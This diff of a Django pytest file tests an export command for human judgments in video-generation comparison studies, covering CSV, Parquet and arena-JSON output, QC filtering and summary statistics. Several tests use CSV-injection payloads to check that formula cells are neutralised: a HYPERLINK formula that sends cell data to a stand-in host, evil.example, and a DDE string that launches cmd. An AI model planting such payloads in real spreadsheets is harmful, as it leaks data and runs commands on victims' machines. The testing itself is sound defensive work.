@@ -13,7 +13,7 @@ from django.core.management import CommandError, call_command
 
 from analysis import export, frames, queries
 from analysis.summary import ablation_table, summarise
-from raters.models import Comparison, Judgment
+from raters.models import Comparison, Judgment, Rater
 from tests.analysis.studies import build_study
 
 pytestmark = pytest.mark.django_db
@@ -40,8 +40,17 @@ def test_csv_has_one_row_per_judgment_with_hashed_raters(tmp_path, study):
     assert len(rows) == judgments.count() == 20
     first, judgment = rows[0], judgments[0]
     assert first["left"] == ("a" if judgment.assignment.left_is_a else "b")
-    assert first["quality_reasons"] == "pixel_sharpness"
+    # one boolean column per reason, no joined list
+    assert first["quality_reason_pixel_sharpness"] == "True"
+    assert first["quality_reason_motion_smoothness"] == "False"
+    assert first["faithfulness_reason_spatial_alignment"] == "True"
+    assert "quality_reasons" not in first
     assert first["kind"] == "real" and first["prompt"]
+    comparison = judgment.assignment.comparison
+    assert first["prompt_id"] == str(comparison.prompt_id)
+    assert first["video_a_id"] == str(comparison.video_a_id)
+    assert first["seed_a"] == str(comparison.video_a.job.seed)
+    assert first["seed_b"] == str(comparison.video_b.job.seed)
     assert {"watch_ms", "replays", "seeks", "is_flagged", "rater_is_flagged"} <= set(first)
     # raters are pseudonyms: stable per person, not their user id
     user_id = str(judgment.assignment.rater_id)
@@ -74,16 +83,128 @@ def test_parquet_keeps_types(tmp_path, study):
     assert str(table.schema.field("is_flagged").type) == "bool"
 
 
-def test_arena_json_is_fastchat_clean_battle_style(tmp_path, study):
+@pytest.mark.parametrize("question", ["quality", "faithfulness"])
+def test_arena_json_has_one_question_with_models_in_the_order_shown(tmp_path, study, question):
+    battles = json.loads(_export(tmp_path, "arena-json", "--question", question).read_text())
+    judgments = {
+        j.pk: j for j in Judgment.objects.select_related("assignment__comparison__pair__variant_a")
+    }
+
+    assert len(battles) == 20
+    assert {b["question"] for b in battles} == {question}
+    lefts = set()
+    for battle in battles:
+        judgment = judgments[battle["judgment_id"]]
+        left_is_a = judgment.assignment.left_is_a
+        lefts.add(left_is_a)
+        design = f"{judgment.assignment.comparison.pair.variant_a.slug}@v1"
+        # model_a is the variant on the left, whichever side of the pair that was
+        assert (battle["model_a"] == design) == left_is_a
+        assert battle["left"] == ("a" if left_is_a else "b")
+        answer = getattr(judgment, question)
+        expected = {"a": "model_a" if left_is_a else "model_b",
+                    "b": "model_b" if left_is_a else "model_a", "tie": "tie"}[answer]  # fmt: skip
+        assert battle["winner"] == expected
+        assert battle["kind"] == "real"
+        assert battle["is_flagged"] == judgment.is_flagged
+        assert "winner_faithfulness" not in battle
+    assert lefts == {True, False}
+
+
+def test_arena_json_leaves_qc_out_unless_asked(tmp_path, study):
     comparison = Comparison.objects.filter(study=study).first()
     Comparison.objects.filter(pk=comparison.pk).update(kind=Comparison.Kind.GOLD)
-    battles = json.loads(_export(tmp_path, "arena-json").read_text())
+    assert len(json.loads(_export(tmp_path, "arena-json").read_text())) == 15
+    battles = json.loads(
+        _export(tmp_path, "arena-json", "--include-qc", name="qc.json").read_text()
+    )
+    assert sorted(b["kind"] for b in battles).count("gold") == 5 and len(battles) == 20
 
-    assert len(battles) == 15  # the gold comparison's five judgments are not battles
-    battle = battles[0]
-    assert {"model_a", "model_b", "winner", "judge", "tstamp", "question_id"} <= set(battle)
-    assert battle["winner"] in {"model_a", "model_b", "tie"}
-    assert battle["model_a"] == "emu@v1"
+
+def test_arena_json_refuses_an_unknown_question(tmp_path, study):
+    with pytest.raises(CommandError, match="Unknown question 'speed'"):
+        _export(tmp_path, "arena-json", "--question", "speed")
+
+
+def test_csv_and_parquet_hold_real_comparisons_unless_qc_is_asked_for(tmp_path, study):
+    gold, mirror = Comparison.objects.filter(study=study).order_by("id")[:2]
+    Comparison.objects.filter(pk=gold.pk).update(kind=Comparison.Kind.GOLD, gold_question="")
+    Comparison.objects.filter(pk=mirror.pk).update(kind=Comparison.Kind.MIRROR)
+
+    real = pd.read_csv(_export(tmp_path, "csv"))
+    assert set(real["kind"]) == {"real"} and len(real) == 10
+    assert pq.read_table(_export(tmp_path, "parquet")).num_rows == 10
+
+    every = pd.read_csv(_export(tmp_path, "csv", "--include-qc", name="qc.csv"))
+    assert every["kind"].value_counts().to_dict() == {"real": 10, "gold": 5, "mirror": 5}
+    # a gold comparison with a blank question checks quality; other rows say "none"
+    assert set(every.loc[every["kind"] == "gold", "gold_question"]) == {"quality"}
+    assert set(every.loc[every["kind"] != "gold", "gold_question"]) == {"none"}
+
+
+def test_csv_columns_keep_their_dtypes_from_study_to_study(tmp_path, study):
+    # given one study without any QC and one whose gold and mirror answers are recorded
+    plain = pd.read_csv(_export(tmp_path, "csv", "--include-qc", name="plain.csv"))
+    gold, mirror = Comparison.objects.filter(study=study).order_by("id")[:2]
+    Comparison.objects.filter(pk=gold.pk).update(kind=Comparison.Kind.GOLD, gold_question="quality")
+    Comparison.objects.filter(pk=mirror.pk).update(kind=Comparison.Kind.MIRROR)
+    Judgment.objects.filter(assignment__comparison=gold).update(gold_correct=True)
+    Judgment.objects.filter(assignment__comparison=mirror).update(mirror_consistent=False)
+
+    # when both are read with plain pandas
+    checked = pd.read_csv(_export(tmp_path, "csv", "--include-qc", name="checked.csv"))
+
+    # then every column has the same dtype in both
+    assert list(plain.columns) == list(checked.columns)
+    assert plain.dtypes.to_dict() == checked.dtypes.to_dict()
+    assert checked["gold_correct"].dtype == "float64" and checked["gold_correct"].max() == 1.0
+    assert checked["quality_reason_pixel_sharpness"].dtype == "bool"
+
+
+def test_parquet_keeps_reasons_as_a_list_and_as_booleans(tmp_path, study):
+    table = pq.read_table(_export(tmp_path, "parquet")).to_pandas()
+    assert list(table.loc[0, "quality_reasons"]) == ["pixel_sharpness"]
+    assert table["quality_reason_pixel_sharpness"].all()
+    assert not table["quality_reason_amount_of_motion"].any()
+    assert table["seed_a"].dtype == "int64"
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_formulas_in_prompts_and_crowd_ids(tmp_path, study, start):
+    # given a prompt and a crowd worker's PID that a spreadsheet would run as formulas
+    comparison = Comparison.objects.filter(study=study).order_by("id").first()
+    comparison.prompt.text = start + "1+cmd|' /C calc'!A0"
+    comparison.prompt.save()
+    judgment = Judgment.objects.filter(assignment__comparison=comparison).first()
+    Rater.objects.update_or_create(
+        user=judgment.assignment.rater, defaults={"external_id": start + HOSTILE[1:]}
+    )
+
+    # when exported with rater ids
+    path = _export(tmp_path, "csv", "--include-rater-ids")
+    rows = list(csv.DictReader(path.open(newline="")))
+
+    # then no cell starts with a formula character: each such cell is quoted with '
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(export.FORMULA_STARTS), value
+    prompts = {r["prompt"] for r in rows}
+    assert "'" + start + "1+cmd|' /C calc'!A0" in prompts
+    assert "'" + start + HOSTILE[1:] in {r["rater_external_id"] for r in rows}
+    # and reading the export back restores the original text
+    back = export.read_export(path)
+    assert start + "1+cmd|' /C calc'!A0" in set(back["prompt"])
+
+
+def test_raw_csv_keeps_formula_cells_as_they_are(tmp_path, study):
+    comparison = Comparison.objects.filter(study=study).order_by("id").first()
+    comparison.prompt.text = HOSTILE
+    comparison.prompt.save()
+    rows = list(csv.DictReader(_export(tmp_path, "csv", "--raw").open(newline="")))
+    assert HOSTILE in {r["prompt"] for r in rows}
 
 
 def test_simulated_judgments_only_on_request(tmp_path, study):
@@ -93,18 +214,37 @@ def test_simulated_judgments_only_on_request(tmp_path, study):
     assert len(list(csv.DictReader(path.open()))) == 20
 
 
-def test_plain_summary_counts_in_the_database(tmp_path, study):
+def test_plain_summary_is_the_headline_with_the_judgment_share_labelled(tmp_path, study):
     path = _export(tmp_path, "csv")
     summary = pd.read_csv(export.summary_path(path))
     row = summary.set_index("variant_b").loc["direct-t2v@v1"]
-    # quality: prompt 0 votes aaaab, prompt 1 abbbb → 5 A of 10 judgments
-    assert row["n"] == 10 and row["quality_win_rate_a"] == pytest.approx(0.5)
+    assert row["comparisons"] == 2 and row["judgments"] == 10
+    # quality: prompt 0 votes aaaab, prompt 1 abbbb → one majority of two, 5 A of 10 votes
+    assert row["quality_win_rate"] == pytest.approx(0.5)
+    assert row["quality_judgment_share_ties_half"] == pytest.approx(0.5)
+    # faithfulness: aaabb on both prompts → both majorities, but 6 of 10 votes
+    assert row["faithfulness_win_rate"] == pytest.approx(1.0)
+    assert row["faithfulness_judgment_share_ties_half"] == pytest.approx(0.6)
     assert row["quality_wilson_lo"] < 0.5 < row["quality_wilson_hi"]
+    # the headline agrees with the dashboard's definition
+    table = ablation_table(summarise(queries.judgment_frame(study=study), rounds=0))
+    headline = table.set_index("variant_b").loc["direct-t2v@v1"]
+    assert headline["faithfulness_win_rate"] == row["faithfulness_win_rate"]
+
+
+def test_each_output_gets_its_own_summary(tmp_path, study):
+    csv_path = _export(tmp_path, "csv", name="judgments.csv")
+    parquet_path = _export(tmp_path, "parquet", name="judgments.parquet")
+    assert export.summary_path(csv_path) != export.summary_path(parquet_path)
+    assert export.summary_path(csv_path).exists() and export.summary_path(parquet_path).exists()
 
 
 def test_full_summary_is_the_ablation_table_with_agreement(tmp_path, study):
     path = _export(tmp_path, "csv", "--summary", "--rounds", "100")
     summary = pd.read_csv(export.summary_path(path))
+    ratings = pd.read_csv(export.ratings_path(path))
+    assert set(ratings["question"]) == {"quality", "faithfulness"}
+    assert {"strength", "strength_lo", "strength_hi", "rank"} <= set(ratings)
     assert list(summary["study"]) == ["ablation", "ablation"]
     row = summary.set_index("variant_b").loc["direct-t2v@v1"]
     assert row["quality_win_rate"] == pytest.approx(0.5)  # one majority of two comparisons
@@ -173,3 +313,40 @@ def test_a_failed_export_leaves_no_file(tmp_path):
             rows(), columns=("id", "quality"), path=tmp_path / "j.csv", fmt="csv"
         )
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.services
+@pytest.mark.parametrize("extra", [(), ("--include-qc", "--include-rater-ids"), ("--raw",)])
+def test_postgresql_writes_the_same_csv_as_the_python_writer(tmp_path, study, extra):
+    # given QC rows, a hostile prompt and crowd id, and the options that change columns
+    gold, mirror = Comparison.objects.filter(study=study).order_by("id")[:2]
+    Comparison.objects.filter(pk=gold.pk).update(kind=Comparison.Kind.GOLD, gold_question="")
+    Comparison.objects.filter(pk=mirror.pk).update(kind=Comparison.Kind.MIRROR)
+    Judgment.objects.filter(assignment__comparison=gold).update(gold_correct=True)
+    mirror.prompt.text = HOSTILE
+    mirror.prompt.save()
+    judgment = Judgment.objects.filter(assignment__comparison=gold).first()
+    Rater.objects.update_or_create(
+        user=judgment.assignment.rater, defaults={"external_id": "@SUM(A1)"}
+    )
+    include = dict(
+        include_qc="--include-qc" in extra, include_rater_ids="--include-rater-ids" in extra
+    )
+
+    # when the database formats the CSV, and when Python does
+    copied = queries.export_csv_copy(study=study, raw="--raw" in extra, **include)
+    by_copy = tmp_path / "copy.csv"
+    written = export.write_csv_blocks(copied.blocks, columns=copied.columns, path=by_copy)
+    query = queries.export_query(study=study, **include)
+    by_python = tmp_path / "python.csv"
+    export.write_judgments(
+        query.rows, columns=query.columns, path=by_python, fmt="csv", raw="--raw" in extra
+    )
+
+    # then the files hold the same table
+    a, b = pd.read_csv(by_copy), pd.read_csv(by_python)
+    assert len(a) == written == copied.blocks.rows == len(b) > 0
+    pd.testing.assert_frame_equal(a, b)
+    # and the command takes the database's path on PostgreSQL
+    out = _export(tmp_path, "csv", *extra, name="command.csv")
+    pd.testing.assert_frame_equal(pd.read_csv(out), b)
